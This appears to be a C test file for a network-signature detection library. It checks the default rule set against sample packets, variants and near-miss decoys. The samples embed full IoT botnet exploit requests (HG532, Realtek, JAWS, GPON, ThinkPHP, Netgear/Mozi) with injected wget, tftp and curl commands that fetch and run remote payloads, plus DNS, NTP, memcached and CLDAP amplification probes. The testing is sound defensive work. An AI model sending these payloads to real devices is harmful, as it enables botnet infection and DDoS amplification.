/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * lib/sig: the rules parser, the default rule set, the scan filter and the
 * compiled-database cache.
 *
 * Ground truths, all written here rather than derived from the library:
 *  - the default rule set's ids, names, families, protocols and ports are
 *    the table of docs/SIGNATURES.md, copied into default_table[];
 *  - every default rule has a realistic payload (real request layouts:
 *    SIPVicious OPTIONS, dig ANY / version.bind, ntpdc monlist, ntpdate,
 *    SSDP discovery, the memcached amplification frame, the CLDAP rootDSE
 *    probe, a WS-Discovery Probe, snmpget, nbtscan, the HG532, Realtek,
 *    JAWS, GPON, ThinkPHP and Mozi exploit requests) that must match that
 *    rule and no other, and matches nothing under the other protocol or a
 *    port outside the rule's list;
 *  - near misses (OPTIONS http://..., GET /picsdesc.xml, M-SEARCH to 1901,
 *    DNS responses, ProbeMatches, community "private", ...) match nothing;
 *  - the NTP first-byte rules are checked for all 256 first bytes against
 *    the RFC 5905 bit fields computed here (mode, version, leap, R/M bits);
 *  - random payloads match nothing but what the NTP client predicate says;
 *  - every bad rules file gives exactly the expected one-line message;
 *  - the cache: compile, reuse, new hash on a changed rule, rebuild after
 *    corruption (checksum, garbage with a valid checksum, truncation), and a
 *    note when the directory cannot be created.
 *
 * argv[1]: lib/sig/rules/default.rules.
 */
#include <dirent.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "dc_err.h"
#include "dc_mem.h"
#include "dc_sig.h"
#include "dc_test.h"

#define NELEM(a) (sizeof(a) / sizeof((a)[0]))
#define BYTES(s) (const uint8_t *)(s), sizeof(s) - 1

static const char *g_default;
static char g_tmp[64];
/* Layout of load1(): 0 (port groups) or DC_SIG_ONE_DB; the scan suites run in both. */
static unsigned g_flags;

/* ---- helpers -------------------------------------------------------------- */


static char *
tpath(const char *name)
{
	static char buf[8][256];
	static unsigned k;
	char *p = buf[k++ % 8];

	snprintf(p, 256, "%s/%s", g_tmp, name);
	return p;
}

static void
write_file(const char *path, const void *data, size_t len)
{
	FILE *f = fopen(path, "wb");

	if (f == NULL || fwrite(data, 1, len, f) != len) {
		fprintf(stderr, "cannot write %s\n", path);
		exit(1);
	}
	fclose(f);
}

static void
write_str(const char *path, const char *s)
{
	write_file(path, s, strlen(s));
}

static char *
read_all(const char *path, size_t *len)
{
	FILE *f = fopen(path, "rb");
	char *buf;
	long n;

	if (f == NULL)
		return NULL;
	fseek(f, 0, SEEK_END);
	n = ftell(f);
	fseek(f, 0, SEEK_SET);
	buf = malloc((size_t)n + 1);
	if (fread(buf, 1, (size_t)n, f) != (size_t)n) {
		fclose(f);
		free(buf);
		return NULL;
	}
	fclose(f);
	buf[n] = '\0';
	*len = (size_t)n;
	return buf;
}

static void
rm_rf(const char *path)
{
	struct stat st;

	if (lstat(path, &st) < 0)
		return;
	if (S_ISDIR(st.st_mode)) {
		DIR *d = opendir(path);
		struct dirent *e;

		while (d != NULL && (e = readdir(d)) != NULL) {
			char sub[512];

			if (strcmp(e->d_name, ".") == 0 || strcmp(e->d_name, "..") == 0)
				continue;
			snprintf(sub, sizeof(sub), "%s/%s", path, e->d_name);
			rm_rf(sub);
		}
		if (d != NULL)
			closedir(d);
		rmdir(path);
	} else {
		unlink(path);
	}
}

static struct dc_sig_db *
load1(const char *file, const char *cache)
{
	const char *files[] = {file};

	if (g_flags == 0)
		return dc_sig_load(files, 1, cache);
	return dc_sig_load_opts(files, 1, cache, g_flags);
}

static int
find_idx(const struct dc_sig_db *db, uint32_t id)
{
	for (unsigned i = 0; i < dc_sig_count(db); i++) {
		if (dc_sig_rule(db, i)->id == id)
			return (int)i;
	}
	return -1;
}

/* The rules of @p file (in the layout of g_flags) and a scratch; NULL (a
 * failed check, nothing left allocated) when they cannot be had. */
static struct dc_sig_scratch *
db_scratch(const char *file, struct dc_sig_db **db)
{
	struct dc_sig_scratch *s;

	*db = load1(file, NULL);
	s = *db ? dc_sig_scratch_new(*db) : NULL;
	CHECK(s != NULL);
	if (s == NULL) {
		dc_sig_free(*db);
		*db = NULL;
	}
	return s;
}

/* The default rules and a scratch (db_scratch()). */
static struct dc_sig_scratch *
default_db(struct dc_sig_db **db)
{
	return db_scratch(g_default, db);
}

/* Scan and return the matched rule ids, sorted, in @p ids; the count. */
static unsigned
scan_ids(const struct dc_sig_db *db, struct dc_sig_scratch *s, uint8_t proto, uint16_t port,
	 const uint8_t *p, size_t len, uint32_t *ids)
{
	uint16_t out[DC_SIG_PKT_MATCHES];
	unsigned n = dc_sig_scan(db, s, proto, port, p, (uint32_t)len, out);

	for (unsigned i = 0; i < n; i++)
		ids[i] = dc_sig_rule(db, out[i])->id;
	for (unsigned i = 1; i < n; i++) {
		for (unsigned j = i; j > 0 && ids[j - 1] > ids[j]; j--) {
			uint32_t t = ids[j];

			ids[j] = ids[j - 1];
			ids[j - 1] = t;
		}
	}
	return n;
}

/* The message of the last failure: one line, naming @p want exactly. */
static int
msg_is(const char *want)
{
	const char *m = dc_strerror();

	if (strchr(m, '\n') != NULL || strcmp(m, want) != 0) {
		fprintf(stderr, "  message: \"%s\"\n  expected: \"%s\"\n", m, want);
		return 0;
	}
	return 1;
}

/* ---- the default rule set -------------------------------------------------- */

struct table_row {
	uint32_t id;
	const char *name, *family;
	uint8_t proto;
	const char *ports; /* as in the table */
};

static const struct table_row default_table[] = {
	{1001, "sip-options", "sip-scan", 17, "5060,5061"},
	{1002, "dns-any", "dns-amp", 17, "53"},
	{1003, "dns-version-bind", "dns-recon", 17, "53"},
	{1004, "ntp-monlist", "ntp-amp", 17, "123"},
	{1005, "ntp-client", "ntp-scan", 17, "123"},
	{1006, "ssdp-msearch", "ssdp-amp", 17, "1900"},
	{1007, "memcached-stats", "memcached-amp", 17, "11211"},
	{1008, "cldap-rootdse", "cldap-amp", 17, "389"},
	{1009, "wsd-probe", "wsd-amp", 17, "3702"},
	{1010, "snmp-public", "snmp-scan", 17, "161"},
	{1011, "netbios-nbstat", "netbios-scan", 17, "137"},
	{2001, "huawei-hg532", "mirai-exploit", 6, "37215"},
	{2002, "realtek-miniigd", "mirai-exploit", 6, "52869"},
	{2003, "jaws-shell", "mirai-exploit", 6, "any"},
	{2004, "gpon-diag", "mirai-exploit", 6, "80,8080"},
	{2005, "thinkphp-rce", "botnet-exploit", 6, "any"},
	{2006, "netgear-setup-cgi", "mozi-exploit", 6, "any"},
	{2007, "loader-wget", "iot-downloader", 6, "any"},
};

/* Port groups of the default set (worked out by hand from the table: tcp
 * 37215, 52869, 80 and 8080, every other port; udp 5060-5061, 53, 123,
 * 1900, 11211, 389, 3702, 161, 137), checked against expected_groups(). */
#define DEFAULT_GROUPS 13

/* Ports of a table row as ranges, parsed here independently. */
static unsigned
table_ports(const char *s, uint16_t r[][2])
{
	unsigned n = 0;

	if (strcmp(s, "any") == 0)
		return 0;
	while (*s) {
		char *e;

		r[n][0] = r[n][1] = (uint16_t)strtoul(s, &e, 10);
		n++;
		s = *e == ',' ? e + 1 : e;
	}
	return n;
}

struct sample {
	uint32_t id;
	const uint8_t *p;
	size_t len;
};

/* dig @x isc.org ANY (EDNS0, 4096-byte buffer) */
static const char s_dns_any[] =
	"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x01"
	"\x03isc\x03org\x00\x00\xff\x00\x01"
	"\x00\x00\x29\x10\x00\x00\x00\x00\x00\x00\x00";
/* dig @x version.bind CH TXT (AD flag, EDNS0 cookie) */
static const char s_dns_vb[] =
	"\xa7\x1e\x01\x20\x00\x01\x00\x00\x00\x00\x00\x01"
	"\x07version\x04" "bind\x00\x00\x10\x00\x03"
	"\x00\x00\x29\x10\x00\x00\x00\x00\x00\x00\x0c\x00\x0a\x00\x08"
	"\x5e\x8f\x01\x22\x93\x6b\xc4\x07";
/* ntpdc -c monlist: mode 7, version 2, implementation 3, request 42, 48 bytes */
static const char s_ntp_monlist[] =
	"\x17\x00\x03\x2a\x00\x00\x00\x00"
	"\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"
	"\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"
	"\x00\x00\x00\x00\x00\x00\x00\x00";
/* ntpdate: LI 3, version 4, mode 3, poll 4, precision -6 */
static const char s_ntp_client[] =
	"\xe3\x00\x04\xfa\x00\x01\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00"
	"\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"
	"\x00\x00\x00\x00\x00\x00\x00\x00\xe9\x4c\x1a\x37\x2b\x02\x0c\x49";
static const char s_ssdp[] =
	"M-SEARCH * HTTP/1.1\r\n"
	"HOST: 239.255.255.250:1900\r\n"
	"MAN: \"ssdp:discover\"\r\n"
	"MX: 1\r\n"
	"ST: ssdp:all\r\n\r\n";
static const char s_memcached[] = "\x00\x01\x00\x00\x00\x01\x00\x00stats\r\n";
/* The CLDAP rootDSE probe: searchRequest, base "", baseObject, (objectclass=*) */
static const char s_cldap[] =
	"\x30\x25\x02\x01\x01\x63\x20\x04\x00\x0a\x01\x00\x0a\x01\x00\x02"
	"\x01\x00\x02\x01\x00\x01\x01\x00\x87\x0b" "objectclass" "\x30\x00";
static const char s_wsd[] =
	"<?xml version=\"1.0\" encoding=\"utf-8\"?>"
	"<soap:Envelope xmlns:soap=\"http://www.w3.org/2003/05/soap-envelope\" "
	"xmlns:wsa=\"http://schemas.xmlsoap.org/ws/2004/08/addressing\" "
	"xmlns:wsd=\"http://schemas.xmlsoap.org/ws/2005/04/discovery\">"
	"<soap:Header><wsa:To>urn:schemas-xmlsoap-org:ws:2005:04:discovery</wsa:To>"
	"<wsa:Action>http://schemas.xmlsoap.org/ws/2005/04/discovery/Probe</wsa:Action>"
	"<wsa:MessageID>urn:uuid:7b2b4a5e-3a4d-4c58-9b2e-1f0e6c1d2a3b</wsa:MessageID>"
	"</soap:Header><soap:Body><wsd:Probe><wsd:Types>wsdp:Device</wsd:Types>"
	"</wsd:Probe></soap:Body></soap:Envelope>";
/* snmpget -v2c -c public x 1.3.6.1.2.1.1.1.0 */
static const char s_snmp[] =
	"\x30\x29\x02\x01\x01\x04\x06public\xa0\x1c\x02\x04\x1b\x5e\x7a\x31"
	"\x02\x01\x00\x02\x01\x00\x30\x0e\x30\x0c\x06\x08\x2b\x06\x01\x02"
	"\x01\x01\x01\x00\x05\x00";
/* nbtscan: node status request for "*" */
static const char s_nbstat[] =
	"\x81\x9a\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00"
	"\x20" "CKAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA" "\x00\x00\x21\x00\x01";
static const char s_sip[] =
	"OPTIONS sip:100@192.0.2.10 SIP/2.0\r\n"
	"Via: SIP/2.0/UDP 198.51.100.7:5060;branch=z9hG4bK-2763170543;rport\r\n"
	"Max-Forwards: 70\r\n"
	"To: \"sipvicious\"<sip:100@1.1.1.1>\r\n"
	"From: \"sipvicious\"<sip:100@1.1.1.1>;tag=6434396633623535313363340131363136353236333732\r\n"
	"User-Agent: friendly-scanner\r\n"
	"Call-ID: 720571153862063913459101\r\n"
	"CSeq: 1 OPTIONS\r\n"
	"Contact: <sip:100@198.51.100.7:5060>\r\n"
	"Accept: application/sdp\r\n"
	"Content-Length: 0\r\n\r\n";
/* The Satori / Okiru HG532 request */
static const char s_hg532[] =
	"POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\n"
	"Content-Length: 430\r\n"
	"Connection: keep-alive\r\n"
	"Accept: */*\r\n"
	"Authorization: Digest username=\"dslf-config\", realm=\"HuaweiHomeGateway\", "
	"nonce=\"88645cefb1f9ede0e336e3569d75ee30\", uri=\"/ctrlt/DeviceUpgrade_1\", "
	"response=\"3612f843a42db38f48f59d2a3597e19c\", algorithm=\"MD5\", qop=\"auth\", "
	"nc=00000001, cnonce=\"248d1a2560100669\"\r\n\r\n"
	"<?xml version=\"1.0\" ?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\" "
	"s:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\"><s:Body>"
	"<u:Upgrade xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\">"
	"<NewStatusURL>$(/bin/busybox wget -g 192.0.2.5 -l /tmp/.f -r /okiru.mips; /tmp/.f)"
	"</NewStatusURL><NewDownloadURL>$(echo HUAWEIUPNP)</NewDownloadURL></u:Upgrade>"
	"</s:Body></s:Envelope>\r\n\r\n";
static const char s_realtek[] =
	"POST /picsdesc.xml HTTP/1.1\r\n"
	"Host: 192.0.2.1:52869\r\n"
	"Content-Length: 630\r\n"
	"Accept-Encoding: gzip, deflate\r\n"
	"SOAPAction: urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\r\n"
	"Accept: */*\r\n"
	"User-Agent: Hello-World\r\n"
	"Connection: keep-alive\r\n\r\n"
	"<?xml version=\"1.0\" ?><s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\" "
	"s:encodingStyle=\"http://schemas.xmlsoap.org/soap/encoding/\"><s:Body>"
	"<u:AddPortMapping xmlns:u=\"urn:schemas-upnp-org:service:WANIPConnection:1\">"
	"<NewRemoteHost></NewRemoteHost><NewExternalPort>47450</NewExternalPort>"
	"<NewProtocol>TCP</NewProtocol><NewInternalPort>44382</NewInternalPort>"
	"<NewInternalClient>`cd /var; rm -rf nig; wget 192.0.2.5/nig; chmod 777 nig; ./nig realtek`"
	"</NewInternalClient><NewEnabled>1</NewEnabled>"
	"<NewPortMappingDescription>syncthing</NewPortMappingDescription>"
	"<NewLeaseDuration>0</NewLeaseDuration></u:AddPortMapping></s:Body></s:Envelope>\r\n\r\n";
/* JAWS without an http:// URL (that one would also be 2007) */
static const char s_jaws[] =
	"GET /shell?cd+/tmp;rm+-rf+*;wget+192.0.2.5/jaws;sh+/tmp/jaws HTTP/1.1\r\n"
	"User-Agent: Hello, world\r\n"
	"Host: 127.0.0.1:80\r\n"
	"Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\n"
	"Connection: keep-alive\r\n\r\n";
static const char s_gpon[] =
	"POST /GponForm/diag_Form?images/ HTTP/1.1\r\n"
	"Host: 127.0.0.1:8080\r\n"
	"Connection: keep-alive\r\n"
	"Accept-Encoding: gzip, deflate\r\n"
	"Accept: */*\r\n"
	"User-Agent: Hello, World\r\n"
	"Content-Length: 118\r\n\r\n"
	"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=``;"
	"wget+-O+/tmp/gaf+192.0.2.5/gpon;sh+/tmp/gaf&ipv=0";
static const char s_thinkphp[] =
	"GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array"
	"&vars[0]=md5&vars[1][]=HelloThinkPHP21 HTTP/1.1\r\n"
	"Host: 192.0.2.1:80\r\n"
	"User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36\r\n"
	"Accept: */*\r\n\r\n";
static const char s_netgear[] =
	"GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;"
	"tftp+-g+-r+Mozi.m+192.0.2.5;sh+Mozi.m&curpath=/&currentsetting.htm=1 HTTP/1.0\r\n\r\n";
static const char s_loader[] =
	"GET /cgi-bin/;cd${IFS}/tmp;curl${IFS}http://192.0.2.5/x.sh|sh HTTP/1.1\r\n"
	"Host: 192.0.2.1\r\n\r\n";

static const struct sample samples[] = {
	{1001, BYTES(s_sip)},
	{1002, BYTES(s_dns_any)},
	{1003, BYTES(s_dns_vb)},
	{1004, BYTES(s_ntp_monlist)},
	{1005, BYTES(s_ntp_client)},
	{1006, BYTES(s_ssdp)},
	{1007, BYTES(s_memcached)},
	{1008, BYTES(s_cldap)},
	{1009, BYTES(s_wsd)},
	{1010, BYTES(s_snmp)},
	{1011, BYTES(s_nbstat)},
	{2001, BYTES(s_hg532)},
	{2002, BYTES(s_realtek)},
	{2003, BYTES(s_jaws)},
	{2004, BYTES(s_gpon)},
	{2005, BYTES(s_thinkphp)},
	{2006, BYTES(s_netgear)},
	{2007, BYTES(s_loader)},
};

/* More payloads that must match exactly one rule (variants the rules allow). */
static const char v_sip_lower[] = "options  sip:alice@example.com SIP/2.0\r\n\r\n";
static const char v_dns_root[] = "\x00\x07\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00\x00\xff\x00\x01";
static const char v_dns_vb_upper[] =
	"\x00\x01\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07VERSION\x04" "BIND\x00\x00\x10\x00\x03";
static const char v_ntp_monlist8[] = "\x27\x80\x02\x2a\x00\x00\x00\x00";
static const char v_memcached_gets[] = "\xab\xcd\x00\x00\x00\x01\x00\x00gets a b c\r\n";
static const char v_memcached_get[] = "\x00\x00\x00\x00\x00\x01\x00\x00get key\r\n";
/* Windows-style CLDAP "LDAP ping": long-form lengths */
static const char v_cldap_long[] =
	"\x30\x84\x00\x00\x00\x2c\x02\x01\x05\x63\x84\x00\x00\x00\x23\x04\x00\x0a\x01\x00"
	"\x0a\x01\x00\x02\x01\x00\x02\x01\x00\x01\x01\x00\xa0\x84\x00\x00\x00\x00\x30\x84"
	"\x00\x00\x00\x0a\x04\x08Netlogon";
static const char v_wsd_noprefix[] = "<Envelope><Body><Probe/></Body></Envelope>";
static const char v_snmp_v1_getnext[] =
	"\x30\x26\x02\x01\x00\x04\x06public\xa1\x19\x02\x01\x01\x02\x01\x00\x02\x01\x00"
	"\x30\x0e\x30\x0c\x06\x08\x2b\x06\x01\x02\x01\x01\x01\x00\x05\x00";
static const char v_snmp_bulk[] =
	"\x30\x26\x02\x01\x01\x04\x06public\xa5\x19\x02\x01\x01\x02\x01\x00\x02\x01\x0a"
	"\x30\x0e\x30\x0c\x06\x08\x2b\x06\x01\x02\x01\x01\x01\x00\x05\x00";
static const char v_loader_wget_pct[] = "GET /x?cmd=WGET%20https://192.0.2.5/a HTTP/1.1\r\n\r\n";
static const char v_loader_wget_plus[] = "POST /x HTTP/1.1\r\n\r\ncmd=busybox+wget++http://192.0.2.5/a";
static const char v_loader_tab[] = "cd /tmp; curl\thttp://192.0.2.5/b | sh\r\n";
static const char v_thinkphp_case[] = "GET /?s=index/think\\app/InvokeFunction&function=CALL_USER_FUNC_ARRAY HTTP/1.1\r\n";

static const struct sample variants[] = {
	{1001, BYTES(v_sip_lower)},
	{1002, BYTES(v_dns_root)},
	{1003, BYTES(v_dns_vb_upper)},
	{1004, BYTES(v_ntp_monlist8)},
	{1007, BYTES(v_memcached_gets)},
	{1007, BYTES(v_memcached_get)},
	{1008, BYTES(v_cldap_long)},
	{1009, BYTES(v_wsd_noprefix)},
	{1010, BYTES(v_snmp_v1_getnext)},
	{1010, BYTES(v_snmp_bulk)},
	{2005, BYTES(v_thinkphp_case)},
	{2007, BYTES(v_loader_wget_pct)},
	{2007, BYTES(v_loader_wget_plus)},
	{2007, BYTES(v_loader_tab)},
};

/* Near misses: must match nothing, scanned at the given protocol and port. */
struct decoy {
	const char *what;
	uint8_t proto;
	uint16_t port;
	const uint8_t *p;
	size_t len;
};

static const char d_options_http[] = "OPTIONS http://192.0.2.1/ HTTP/1.1\r\nHost: 192.0.2.1\r\n\r\n";
static const char d_picsdesc_get[] = "GET /picsdesc.xml HTTP/1.1\r\nHost: 192.0.2.1:52869\r\n\r\n";
static const char d_dns_response[] =
	"\x12\x34\x81\x80\x00\x01\x00\x00\x00\x00\x00\x00\x03isc\x03org\x00\x00\xff\x00\x01";
static const char d_dns_a[] =
	"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x03isc\x03org\x00\x00\x01\x00\x01";
static const char d_dns_any_2q[] =
	"\x12\x34\x01\x00\x00\x02\x00\x00\x00\x00\x00\x00\x03isc\x03org\x00\x00\xff\x00\x01";
static const char d_dns_vb_in[] =
	"\x00\x01\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07version\x04" "bind\x00\x00\x10\x00\x01";
static const char d_ntp_monlist_resp[] = "\x97\x00\x03\x2a\x00\x00\x00\x00";
static const char d_ntp_peers[] = "\x17\x00\x03\x00\x00\x00\x00\x00";
static const char d_ntp_short[] = "\xe3\x00\x04\xfa\x00\x01\x00\x00\x00\x01\x00\x00";
static const char d_ssdp_notify[] = "NOTIFY * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\n\r\n";
static const char d_memcached_tcp_style[] = "stats\r\n";
static const char d_memcached_seq1[] = "\x00\x01\x00\x01\x00\x01\x00\x00stats\r\n";
static const char d_cldap_subtree[] =
	"\x30\x25\x02\x01\x01\x63\x20\x04\x00\x0a\x01\x02\x0a\x01\x00\x02"
	"\x01\x00\x02\x01\x00\x01\x01\x00\x87\x0b" "objectclass" "\x30\x00";
static const char d_wsd_matches[] =
	"<soap:Body><wsd:ProbeMatches><wsd:ProbeMatch></wsd:ProbeMatch></wsd:ProbeMatches>"
	"<wsa:Action>http://schemas.xmlsoap.org/ws/2005/04/discovery/Probe</wsa:Action>";
static const char d_snmp_private[] =
	"\x30\x2a\x02\x01\x01\x04\x07private\xa0\x1c\x02\x04\x1b\x5e\x7a\x31"
	"\x02\x01\x00\x02\x01\x00\x30\x0e\x30\x0c\x06\x08\x2b\x06\x01\x02"
	"\x01\x01\x01\x00\x05\x00";
static const char d_snmp_set[] =
	"\x30\x29\x02\x01\x01\x04\x06public\xa3\x1c\x02\x04\x1b\x5e\x7a\x31"
	"\x02\x01\x00\x02\x01\x00\x30\x0e\x30\x0c\x06\x08\x2b\x06\x01\x02"
	"\x01\x01\x01\x00\x05\x00";
static const char d_nb_name_query[] =
	"\x81\x9a\x01\x10\x00\x01\x00\x00\x00\x00\x00\x00"
	"\x20" "EBEBEBEBEBEBEBEBEBEBEBEBEBEBEBAA" "\x00\x00\x20\x00\x01";
static const char d_hg532_get[] = "GET /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\n\r\n";
static const char d_gpon_noimages[] = "POST /GponForm/diag_Form HTTP/1.1\r\n\r\n";
static const char d_jaws_other[] = "GET /shell?cd+/var;ls HTTP/1.1\r\n\r\n";
static const char d_loader_opt[] = "cd /tmp; wget -O x http://192.0.2.5/a; sh x\r\n";
static const char d_loader_nosep[] = "GET /wgethttp://192.0.2.5/ HTTP/1.1\r\n\r\n";
static const char d_loader_ftp[] = "wget ftp://192.0.2.5/a\r\n";

static const struct decoy decoys[] = {
	{"OPTIONS http:// on 5060", 17, 5060, BYTES(d_options_http)},
	{"OPTIONS http:// on tcp 80", 6, 80, BYTES(d_options_http)},
	{"GET /picsdesc.xml", 6, 52869, BYTES(d_picsdesc_get)},
	{"M-SEARCH to 1901", 17, 1901, BYTES(s_ssdp)},
	{"DNS ANY response", 17, 53, BYTES(d_dns_response)},
	{"DNS A query", 17, 53, BYTES(d_dns_a)},
	{"DNS ANY with 2 questions", 17, 53, BYTES(d_dns_any_2q)},
	{"version.bind class IN", 17, 53, BYTES(d_dns_vb_in)},
	{"monlist response", 17, 123, BYTES(d_ntp_monlist_resp)},
	{"mode 7 PEER_LIST", 17, 123, BYTES(d_ntp_peers)},
	{"NTP client of 12 bytes", 17, 123, BYTES(d_ntp_short)},
	{"SSDP NOTIFY", 17, 1900, BYTES(d_ssdp_notify)},
	{"memcached without frame", 17, 11211, BYTES(d_memcached_tcp_style)},
	{"memcached sequence 1", 17, 11211, BYTES(d_memcached_seq1)},
	{"CLDAP scope subtree", 17, 389, BYTES(d_cldap_subtree)},
	{"WSD ProbeMatches", 17, 3702, BYTES(d_wsd_matches)},
	{"SNMP community private", 17, 161, BYTES(d_snmp_private)},
	{"SNMP SetRequest", 17, 161, BYTES(d_snmp_set)},
	{"NetBIOS name query", 17, 137, BYTES(d_nb_name_query)},
	{"GET DeviceUpgrade_1", 6, 37215, BYTES(d_hg532_get)},
	{"GPON without ?images/", 6, 8080, BYTES(d_gpon_noimages)},
	{"JAWS /shell?cd+/var", 6, 80, BYTES(d_jaws_other)},
	{"wget with an option before the URL", 6, 80, BYTES(d_loader_opt)},
	{"wget glued to http://", 6, 80, BYTES(d_loader_nosep)},
	{"wget ftp://", 6, 80, BYTES(d_loader_ftp)},
};

static uint16_t
first_port(const struct table_row *t)
{
	uint16_t r[16][2];

	return table_ports(t->ports, r) ? r[0][0] : 80;
}

static const struct table_row *
row_of(uint32_t id)
{
	for (size_t i = 0; i < NELEM(default_table); i++) {
		if (default_table[i].id == id)
			return &default_table[i];
	}
	return NULL;
}

static void
test_default_table(void)
{
	struct dc_sig_db *db = load1(g_default, NULL);

	CHECK(db != NULL);
	if (db == NULL) {
		fprintf(stderr, "  %s\n", dc_strerror());
		return;
	}
	CHECK_EQ(dc_sig_count(db), NELEM(default_table));
	for (unsigned i = 0; i < dc_sig_count(db) && i < NELEM(default_table); i++) {
		const struct dc_sig_rule *r = dc_sig_rule(db, i);
		const struct table_row *t = &default_table[i];
		uint16_t rg[16][2];
		unsigned n = table_ports(t->ports, rg);

		CHECK_EQ(r->id, t->id);
		CHECK(strcmp(r->name, t->name) == 0);
		CHECK(strcmp(r->family, t->family) == 0);
		CHECK_EQ(r->proto, t->proto);
		CHECK_EQ(r->nranges == 0, n == 0);
		/* Sorted, disjoint, not adjacent (merged). */
		for (unsigned k = 0; k < r->nranges; k++) {
			CHECK(r->ranges[k][0] <= r->ranges[k][1]);
			if (k > 0)
				CHECK((uint32_t)r->ranges[k - 1][1] + 1 < r->ranges[k][0]);
		}
		/* The same set of ports as the table's list. */
		for (uint32_t port = 0; port < 65536 && n > 0; port++) {
			int want = 0, got = 0;

			for (unsigned k = 0; k < n; k++)
				want |= port >= rg[k][0] && port <= rg[k][1];
			for (unsigned k = 0; k < r->nranges; k++)
				got |= port >= r->ranges[k][0] && port <= r->ranges[k][1];
			if (want != got) {
				CHECK_EQ(got, want);
				break;
			}
		}
		CHECK(strcmp(r->file, g_default) == 0);
		CHECK(r->line > 0);
	}
	CHECK(dc_sig_rule(db, dc_sig_count(db)) == NULL);
	CHECK(dc_sig_from_cache(db) == 0);
	CHECK(dc_sig_cache_note(db) == NULL);
	CHECK(strlen(dc_sig_hash(db)) == 16);
	dc_sig_free(db);
}

/* Every sample: its rule alone; nothing under the other protocol or outside its ports. */
static void
check_samples(const struct dc_sig_db *db, struct dc_sig_scratch *s, const struct sample *sm,
	      size_t nsm, int port_checks)
{
	for (size_t i = 0; i < nsm; i++) {
		const struct table_row *t = row_of(sm[i].id);
		uint32_t ids[DC_SIG_PKT_MATCHES];
		uint16_t port = first_port(t);
		unsigned n;

		n = scan_ids(db, s, t->proto, port, sm[i].p, sm[i].len, ids);
		CHECK_EQ(n, 1);
		CHECK_EQ(n ? ids[0] : 0, sm[i].id);
		if (n != 1 || ids[0] != sm[i].id)
			fprintf(stderr, "  sample %zu of rule %u: %u matches, first %u\n", i, sm[i].id,
				n, n ? ids[0] : 0);
		if (!port_checks)
			continue;
		/* The other protocol, same port. */
		n = scan_ids(db, s, t->proto == 6 ? 17 : 6, port, sm[i].p, sm[i].len, ids);
		CHECK_EQ(n, 0);
		if (strcmp(t->ports, "any") != 0) {
			/* A port outside the list (none of the lists hold 9). */
			n = scan_ids(db, s, t->proto, 9, sm[i].p, sm[i].len, ids);
			CHECK_EQ(n, 0);
			n = scan_ids(db, s, t->proto, (uint16_t)(port + 1) == 5061 ? 5062 : port + 1,
				     sm[i].p, sm[i].len, ids);
			CHECK_EQ(n, 0);
		}
		/* An empty payload matches nothing. */
		n = scan_ids(db, s, t->proto, port, sm[i].p, 0, ids);
		CHECK_EQ(n, 0);
	}
}

static void
test_default_samples(void)
{
	struct dc_sig_db *db = load1(g_default, NULL);
	struct dc_sig_scratch *s;

	CHECK(db != NULL);
	if (db == NULL)
		return;
	s = dc_sig_scratch_new(db);
	CHECK(s != NULL);
	CHECK_EQ(NELEM(samples), dc_sig_count(db));
	for (size_t i = 0; i < NELEM(samples); i++)
		CHECK(find_idx(db, samples[i].id) >= 0);
	check_samples(db, s, samples, NELEM(samples), 1);
	check_samples(db, s, variants, NELEM(variants), 0);

	/* 1001 on its second port, 2004 on its second port. */
	{
		uint32_t ids[DC_SIG_PKT_MATCHES];

		CHECK_EQ(scan_ids(db, s, 17, 5061, BYTES(s_sip), ids), 1);
		CHECK_EQ(scan_ids(db, s, 6, 80, BYTES(s_gpon), ids), 1);
		CHECK_EQ(scan_ids(db, s, 6, 8081, BYTES(s_gpon), ids), 0);
	}
	dc_sig_scratch_free(s);
	dc_sig_free(db);
}

static void
test_default_decoys(void)
{
	struct dc_sig_db *db;
	struct dc_sig_scratch *s = default_db(&db);

	if (s == NULL)
		return;
	for (size_t i = 0; i < NELEM(decoys); i++) {
		uint32_t ids[DC_SIG_PKT_MATCHES];
		unsigned n = scan_ids(db, s, decoys[i].proto, decoys[i].port, decoys[i].p,
				      decoys[i].len, ids);

		CHECK_EQ(n, 0);
		if (n != 0)
			fprintf(stderr, "  decoy '%s' matched %u\n", decoys[i].what, ids[0]);
	}
	/* The sample cut one byte short of what its rule needs (the anchored ones). */
	{
		uint32_t ids[DC_SIG_PKT_MATCHES];

		CHECK_EQ(scan_ids(db, s, 17, 123, (const uint8_t *)s_ntp_client, 47, ids), 0);
		CHECK_EQ(scan_ids(db, s, 17, 123, (const uint8_t *)s_ntp_client, 48, ids), 1);
		CHECK_EQ(scan_ids(db, s, 17, 53, (const uint8_t *)s_dns_any, 20, ids), 0);
		CHECK_EQ(scan_ids(db, s, 17, 53, (const uint8_t *)s_dns_any, 25, ids), 1);
		CHECK_EQ(scan_ids(db, s, 17, 137, (const uint8_t *)s_nbstat, sizeof(s_nbstat) - 2,
				  ids), 0);
	}
